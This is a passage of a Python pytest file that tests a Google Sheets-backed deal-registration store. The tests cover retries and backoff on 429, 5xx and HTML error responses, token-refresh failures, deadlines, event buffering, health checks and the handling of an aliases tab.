    assert (len(rows_of(api, "Registrations")), len(rows_of(api, "Decisions"))) == (1, 1)
    assert clock.slept == [0.1875, 0.375, 0.75] * 2  # exponential, half of it jitter (rand fixed at 0.5)


def test_429_forever_is_store_unavailable_within_the_deadline_and_never_clear(store, service, api, clock):
    warm(store, api)
    api.inject(None, 429, times=10_000)
    start = clock.now
    with pytest.raises(StoreUnavailable, match=r"did not answer .* within 10 s \(last: 429 RESOURCE_EXHAUSTED\)"):
        service.register(acme())
    assert clock.now - start <= 10
    assert rows_of(api, "Registrations") == []
    clock.advance(30)  # a stale cache: a check must fail too, not answer "clear"
    with pytest.raises(StoreUnavailable):
        service.check(acme())


@pytest.mark.parametrize("fault", [("html", 502), ("html", 503), ("html-after-write", 502),
                                   ("html-after-write", 503)])
def test_an_html_5xx_on_the_registration_write_ends_with_one_row_and_a_decision(store, service, api, fault):
    """Google's front end can answer a 5xx with an HTML page (gspread: APIError code -1). It is
    a 5xx like any other: ambiguous for a write, so the retry looks before writing again."""
    warm(store, api)
    api.inject("spreadsheets.batchUpdate", fault)
    decision = service.register(acme())  # an API registration: no token a retry could be found by
    assert (decision.status.value, decision.registration_id) == ("clear", "R-000000000001")
    assert [r["registration_id"] for r in rows_of(api, "Registrations")] == ["R-000000000001"]
    assert len(rows_of(api, "Decisions")) == 1
    applied = fault[0] == "html-after-write"
    assert kinds(api) == ["values.batchGet", "spreadsheets.batchUpdate", "values.batchGet"] + (
        [] if applied else ["spreadsheets.batchUpdate", "values.get"])


def test_an_html_5xx_on_a_read_is_retried(store, api, clock):
    api.inject("values.batchGet", ("html", 502))
    api.inject("values.batchGet", ("html", 503))
    assert store.changes(None).reset
    assert kinds(api) == ["spreadsheets.get"] + ["values.batchGet"] * 3
    assert len(clock.slept) == 2


def test_html_5xx_forever_is_store_unavailable_naming_the_status(store, api):
    api.inject(None, ("html", 502), times=10_000)
    with pytest.raises(StoreUnavailable, match=r"within 10 s \(last: 502 Bad Gateway \(not JSON\)\)"):
        store.changes(None)


class FlakyToken(FakeCredentials):
    """A token that Google's token endpoint fails to give once (google-auth: a retryable
    RefreshError, as after a 502 HTML page from the endpoint, gspread #1564)."""

    def __init__(self, retryable: bool) -> None:
        super().__init__()
        self.token = None  # no token yet: google-auth refreshes before the first request
        self.retryable, self.failures = retryable, 0

    def refresh(self, request: object) -> None:
        if self.failures == 0:
            self.failures += 1
            raise google.auth.exceptions.RefreshError("<title>Error 502 (Server Error)!!1</title>",
                                                      retryable=self.retryable)
        self.token = "fake-token"


def test_a_token_refresh_google_could_not_answer_is_retried_a_refused_key_is_not(api, clock):
    new_sheet(api)
    for retryable in (True, False):
        client = gspread.Client(auth=FlakyToken(retryable))
        redirect_session_to(client.http_client.session, api.base_url)
        store = SheetsStore(client, SID, clock=clock, sleep=clock.sleep, rand=lambda: 0.5)
        if retryable:
            assert store.changes(None).reset
        else:
            with pytest.raises(StoreError, match="Google refused the service account's key") as info:
                store.changes(None)
            assert not isinstance(info.value, StoreUnavailable)


class DraggingClock(FakeClock):
    """Every reading is 3 s later than the last: as if each answer were slow."""

    def __call__(self) -> float:
        self.now += 3
        return self.now


def test_no_request_starts_once_slow_answers_have_used_up_the_deadline(api, rules):
    new_sheet(api)
    store = store_for(api, clock=DraggingClock())
    with pytest.raises(StoreUnavailable, match="within 10 s"):
        PausingService(store, rules, "R-000000000001", T0).register(acme())
    assert 0 < api.count() < 3  # it gave up instead of sending the rest of the registration
    assert rows_of(api, "Registrations") == []


def test_a_slow_answer_times_out_and_is_retried(api, clock):
    new_sheet(api)
    store = store_for(api, clock=clock, request_timeout=0.2)
    warm(store, api)
    store.invalidate()
    api.inject("values.batchGet", ("slow", 0.5))
    assert store.changes(None).reset
    assert kinds(api) == ["values.batchGet", "values.batchGet"]


@pytest.mark.parametrize(("fault", "message"), [
    (403, "Share the spreadsheet with the service account's client_email as Editor"),
    (404, "Set DEALREG_SHEET_ID to the spreadsheet id"),
])
def test_refusals_are_not_retried_and_name_the_fix(store, api, fault, message):
    api.inject(None, fault)
    with pytest.raises(StoreError, match=message) as info:
        store.changes(None)
    assert not isinstance(info.value, StoreUnavailable)
    assert api.count() == 1


# -- check events: buffered, flushed in batches ------------------------------------------------

def test_check_events_are_buffered_and_written_with_the_next_registration(store, service, api):
    warm(store, api)
    for _ in range(3):
        service.check(acme())
    assert api.count() == 0 and store.buffered() == 3
    service.register(acme())
    assert store.buffered() == 0
    assert kinds(api) == ["values.batchGet", "spreadsheets.batchUpdate", "values.get"]
    assert [r["action"] for r in rows_of(api, "Decisions")] == ["check"] * 3 + ["register"]


def test_fifty_check_events_or_an_old_buffer_are_written_in_one_request(store, service, api, clock):
    warm(store, api)
    for _ in range(50):
        service.check(acme())
    assert kinds(api) == ["spreadsheets.batchUpdate"] and store.buffered() == 0
    assert len(rows_of(api, "Decisions")) == 50
    api.reset_log()
    service.check(acme())
    clock.advance(30)  # the buffer is as old as the cache: the next check writes it (after re-reading)
    service.check(acme())
    assert kinds(api) == ["values.batchGet", "spreadsheets.batchUpdate"]
    assert len(rows_of(api, "Decisions")) == 52


def test_close_writes_the_buffer(store, service, api):
    service.check(acme())
    store.close()
    assert [r["action"] for r in rows_of(api, "Decisions")] == ["check"]


def test_a_failed_flush_keeps_the_events_for_later(store, service, api, clock):
    warm(store, api)
    api.inject("spreadsheets.batchUpdate", 500, times=10_000)
    for _ in range(50):
        service.check(acme())  # the flush fails: the check is still answered
    assert store.buffered() == 50
    api.clear_faults()
    assert store.flush() == 50
    assert len(rows_of(api, "Decisions")) == 50


def test_an_event_written_twice_by_an_ambiguous_flush_is_read_once(store, service, api):
    service.check(acme())
    api.inject("spreadsheets.batchUpdate", "503-after-write")
    assert store.flush() == 1
    assert len(rows_of(api, "Decisions")) == 2  # the retry wrote the row again …
    assert store.count("decisions") == 1  # … and readers drop the duplicate by event_id


# -- health, whole tabs ------------------------------------------------------------------------

def test_health_answers_from_the_cache_and_never_raises(store, service, api, clock):
    service.register(acme())
    api.reset_log()
    health = store.health()
    assert (health.ok, health.backend, health.facts) == (True, "sheets", {"registrations": 1, "buffered_events": 0})
    assert api.count() == 0
    clock.advance(30)
    api.inject(None, 503, times=10_000)
    down = store.health()
    assert not down.ok and "did not answer" in down.detail


def test_whole_tabs_are_read_replaced_and_upserted(store, api):
    store.write_rows("partners", [{"partner": "Northwind Partners"}, {"partner": "Contoso Consulting"}])
    store.write_rows("partners", [{"partner": "Fabrikam Solutions"}])
    assert [r["partner"] for r in store.read_rows("partners")] == ["Fabrikam Solutions"]
    assert store.partners() == ("Fabrikam Solutions",)  # the write invalidated the cache
    row = reg_row("R-000000000001", "Acme", "acme.com", "Fabrikam Solutions", "2026-03-01T10:00:00+00:00")
    store.write_rows("registrations", [row])
    store.write_rows("registrations", [{**row, "state": "won"}])
    assert [(r["registration_id"], r["state"]) for r in store.read_rows("registrations")] == [
        ("R-000000000001", "won")]
    assert store.count("registrations") == 1 and not store.is_empty()
    with pytest.raises(InputError, match="row 2 partner: is required"):
        store.write_rows("partners", [{"partner": ""}])


def test_the_aliases_tab_is_read_with_the_reference_tabs_and_is_optional(store, service, api, clock):
    api.set_values(SID, "Registrations", tab_rows("registrations", [
        reg_row("R-000000000001", "Altria Group, Inc.", "altria.com", "Northwind Partners", "2026-03-01")]))
    api.set_values(SID, "Aliases", tab_rows("aliases", [
        {"alias": "Philip Morris Companies", "account_domain": "altria.com", "note": "until 2003"},
        {"alias": "Orphan"}]))  # names no account: reported, never a claim
    changes = store.changes(None)
    assert [(a.alias, a.account_domain) for a in changes.aliases] == [("Philip Morris Companies", "altria.com")]
    assert [q.claim for q in changes.quarantined if q.table == "aliases"] == [False]
    decision = service.check(Record(company_name="Philip Morris Companies Inc."))
    assert (decision.status, decision.owner) == (Status.CONFLICT, "Northwind Partners")
    assert "alias" in decision.match_evidence

    new_sheet(api, "other", aliases=None)  # a Sheet made before the Aliases tab
    older = store_for(api, "other", clock=clock)
    try:
        assert older.changes(None).aliases == ()
    finally:
        older.close()
